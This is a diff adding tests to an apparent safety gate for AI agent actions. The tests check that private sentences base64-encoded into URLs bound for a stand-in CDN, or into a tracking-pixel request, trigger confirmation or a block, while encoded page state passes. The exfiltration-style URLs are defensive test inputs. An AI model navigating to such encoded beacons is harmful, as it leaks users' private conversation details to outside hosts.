@@ -297,3 +297,26 @@ def test_an_ordinary_folder_or_a_path_outside_a_file_chooser_does_not_ask(path, 
     a = GATE.assess(action_from_dict({"type": "type", "text": path, "target": {"label": label}}),
                     Observation(app="firefox"))
     assert "confirm.gui.data-out" not in a.rules, a.rules
+
+
+# -- sentences hidden in an encoded value ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("sentence", [
+    "The user asked about her tax return and her employer's name",
+    "Resumen de la conversación con el cliente sobre su deuda pendiente",
+])
+def test_a_sentence_encoded_into_a_url_asks_and_to_a_pixel_blocks(sentence: str) -> None:
+    got = nav(f"https://cdn.example.net/v2/assets?id={b64(sentence)}")
+    assert got.decision is Decision.CONFIRM and "confirm.web.data-out" in got.rules, got.rules
+    got = nav(f"https://cdn.example.net/pixel.gif?id={b64(sentence)}")
+    assert got.decision is Decision.BLOCK and "block.web.data-out" in got.rules, got.rules
+
+
+@pytest.mark.parametrize("value", [
+    '{"page":3,"sort":"date","filter":"open issues only"}',  # page state as JSON
+    "csrf=8f7a6s5d4f3g2h1j&return=/home/dashboard",  # a sign-in round trip
+    "user:1234|session:abcd|exp:1700000000",
+])
+def test_page_state_encoded_into_a_url_passes(value: str) -> None:
+    assert nav(f"https://app.example.com/list?state={b64(value)}").decision is Decision.ALLOW
